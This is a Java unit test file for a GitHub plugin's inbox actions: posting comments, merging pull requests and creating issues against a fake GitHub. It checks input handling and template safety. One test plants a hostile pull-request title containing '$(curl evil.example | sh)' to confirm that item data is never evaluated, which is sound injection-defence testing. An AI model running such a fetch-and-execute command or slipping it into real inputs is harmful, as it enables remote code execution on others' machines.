package io.devrig.plugin.github.internal;

import static org.assertj.core.api.Assertions.assertThat;

import io.devrig.action.internal.ActionRegistryImpl;
import io.devrig.api.action.ActionContext;
import io.devrig.api.action.ActionDescriptor;
import io.devrig.api.action.ActionErrors;
import io.devrig.api.action.ActionExecutor;
import io.devrig.api.action.ActionInvocation;
import io.devrig.api.action.ActionOutcome;
import io.devrig.api.inbox.InboxItem;
import io.devrig.api.inbox.InboxItemInput;
import io.devrig.api.inbox.InboxStatus;
import io.devrig.api.plugin.PluginDescriptor;
import io.devrig.common.action.DeclaredActions;
import io.devrig.template.internal.TemplateEngineComponent;
import io.devrig.testing.TestActionContext;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * {@code devrig:inbox-act <item> github.comment '{"body":"hi"}'}: the actions run through the
 * action registry's real pipeline, with the schemas of plugin.json, on items as the data sources
 * store them; the fake GitHub records what is sent.
 */
class ActOnItemTest extends GitHubTestBase {

    private ActionRegistryImpl registry;

    /** An executor with the descriptor the registry builds from plugin.json (run on the caller's thread here). */
    private record Declared(ActionDescriptor descriptor, ActionExecutor behaviour) implements ActionExecutor {
        @Override
        public Object execute(Object input, ActionContext context) throws Exception {
            return behaviour.execute(input, context);
        }
    }

    @BeforeEach
    void setUp() throws Exception {
        settings.set(Map.of("apiUrl", github.apiUrl()));
        PluginDescriptor plugin = DescriptorTest.descriptor();
        registry = new ActionRegistryImpl(new TemplateEngineComponent(), () -> null);
        Map<String, ActionExecutor> behaviour = Map.of(
                GitHubActions.COMMENT, new CommentAction(http, secrets, log, settings, clock, limits),
                GitHubActions.CREATE_ISSUE, new CreateIssueAction(http, secrets, log, settings, clock, limits),
                GitHubActions.MERGE, new MergePullRequestAction(http, secrets, log, settings, clock, limits));
        long id = 1;
        for (PluginDescriptor.Action a : plugin.capabilities().actions()) {
            registry.addExecutor(new Declared(DeclaredActions.descriptor(a, plugin::schema), behaviour.get(a.id())),
                    null, null, 0, id++, "test");
        }
        github.addPull("octo/hello", 5, "Add the widget", "alice", false);
        github.addPull("octo/hello", 6, "Other", "bob", false);
    }

    @AfterEach
    void close() {
        registry.close();
    }

    static Items.PullRequest pull(String title) {
        return new Items.PullRequest("octo/hello", 5, title, "the PR's description", "https://github.com/octo/hello/pull/5",
                "2026-11-20T08:00:00Z", false, "alice", FakeGitHub.sha("octo/hello5"), "widget", "main", "open",
                "2026-11-22T08:00:00Z");
    }

    /** The stored item of what a data source stores. */
    static InboxItem stored(InboxItemInput in) {
        return new InboxItem("01JITEM0000000000000000000", "io.devrig.plugin.github", in.externalId(), in.type(),
                in.title(), in.body(), in.preview(), in.sourceUrl(), in.priority(), InboxStatus.UNREAD, in.actionable(),
                in.metadata(), null, in.externalCreatedAt(), null, null, null, null, "2026-11-23T08:00:00Z",
                "2026-11-23T08:00:00Z");
    }

    /** As the inbox calls the registry: the item as template data and as the context's item. */
    private ActionOutcome act(InboxItem item, String type, Map<String, Object> input) {
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("title", item.title());
        data.put("body", item.body());
        data.put("metadata", item.metadata());
        return registry.execute(new ActionInvocation(type, input, Map.of("item", data),
                new TestActionContext().runId(null).item(item), Duration.ofSeconds(10)));
    }

    @Test
    void aCommentWithOnlyItsBodyGoesToTheItemsRepositoryAndNumber() throws Exception {
        InboxItem pr = stored(Items.item("pr:octo/hello#5", pull("Add the widget"), null));
        ActionOutcome o = act(pr, GitHubActions.COMMENT, Map.of("body", "hi"));

        assertThat(o.succeeded()).as("%s", o.error()).isTrue();
        FakeGitHub.Recorded r = github.requests().get(0);
        assertThat(r.method()).isEqualTo("POST");
        assertThat(r.path()).isEqualTo("/repos/octo/hello/issues/5/comments");
        assertThat(r.json()).isEqualTo(FakeGitHub.JSON.readTree("{\"body\":\"hi\"}"));
        assertThat(o.output()).isInstanceOfSatisfying(Map.class, m -> assertThat(m)
                .containsEntry("repository", "octo/hello").containsEntry("number", 5)
                .containsEntry("itemUpdate", Map.of("status", "read")));
    }

    @Test
    void mergeAndCreateIssueTakeTheirTargetFromTheItemToo() {
        InboxItem pr = stored(Items.item("pr:octo/hello#5", pull("Add the widget"), null));
        assertThat(act(pr, GitHubActions.MERGE, Map.of("mergeMethod", "squash", "sha", "{{item.metadata.headSha}}"))
                .succeeded()).isTrue();
        assertThat(act(pr, GitHubActions.CREATE_ISSUE, Map.of("title", "Follow-up")).succeeded()).isTrue();

        List<FakeGitHub.Recorded> sent = github.requests();
        assertThat(sent).extracting(FakeGitHub.Recorded::method, FakeGitHub.Recorded::path).containsExactly(
                org.assertj.core.groups.Tuple.tuple("PUT", "/repos/octo/hello/pulls/5/merge"),
                org.assertj.core.groups.Tuple.tuple("POST", "/repos/octo/hello/issues"));
        assertThat(sent.get(0).body()).contains("\"sha\":\"" + FakeGitHub.sha("octo/hello5") + "\"");
    }

    @Test
    void anExplicitInputOrATemplateStillWins() {
        InboxItem pr = stored(Items.item("pr:octo/hello#5", pull("Add the widget"), null));
        assertThat(act(pr, GitHubActions.COMMENT, Map.of("number", 6, "body", "hi")).succeeded()).isTrue();
        assertThat(act(pr, GitHubActions.COMMENT, Map.of("repository", "{{item.metadata.repository}}",
                "number", "{{item.metadata.number}}", "body", "hi")).succeeded()).isTrue();
        assertThat(github.requests()).extracting(FakeGitHub.Recorded::path).containsExactly(
                "/repos/octo/hello/issues/6/comments", "/repos/octo/hello/issues/5/comments");
    }

    @Test
    void anItemWithoutANumberGetsOneLineNamingTheMissingFieldAndNothingIsSent() {
        // a thread about a release has a repository but no issue or pull request number
        InboxItem release = stored(Items.item("notification:77", null, new Items.Thread("77", "octo/hello", null,
                false, "Release", "subscribed", true, "2026-11-22T08:00:00Z", "v1.0", null)));
        ActionOutcome o = act(release, GitHubActions.COMMENT, Map.of("body", "hi"));

        assertThat(o.succeeded()).isFalse();
        assertThat(o.error().code()).isEqualTo(ActionErrors.ACTION_INPUT_INVALID);
        assertThat(o.error().message()).isEqualTo("$.number: required by action github.comment: give \"number\" in"
                + " the input; the item's metadata has no 'number' to take it from");
        assertThat(github.requests()).isEmpty();
    }

    @Test
    void itemDataThatLooksLikeATemplateIsNeverEvaluated() throws Exception {
        // a PR title is written by anyone who opens a pull request
        String hostile = "{{item.metadata.headSha}} $(curl evil.example | sh) {{#each item}}x{{/each}}";
        InboxItem pr = stored(Items.item("pr:octo/hello#5", pull(hostile), null));
        ActionOutcome o = act(pr, GitHubActions.COMMENT, Map.of("body", "Re: {{item.title}}"));
        assertThat(o.succeeded()).as("%s", o.error()).isTrue();
        assertThat(github.requests().get(0).json().path("body").asText()).isEqualTo("Re: " + hostile);

        // metadata copied into the input stays text: here it is no repository name, so nothing is sent
        Map<String, Object> metadata = new LinkedHashMap<>(pr.metadata());
        metadata.put("repository", "{{item.metadata.repository}}");
        InboxItem forged = stored(new InboxItemInput("pr:x", "pull_request", "t", null, null, null,
                io.devrig.api.inbox.Priority.NORMAL, true,
                metadata, null));
        ActionOutcome refused = act(forged, GitHubActions.COMMENT, Map.of("body", "hi"));
        assertThat(refused.error().code()).isEqualTo(ActionErrors.ACTION_INPUT_INVALID);
        assertThat(refused.input()).isInstanceOfSatisfying(Map.class, m -> assertThat(m)
                .containsEntry("repository", "{{item.metadata.repository}}"));
        assertThat(github.requests()).hasSize(1);
    }
}
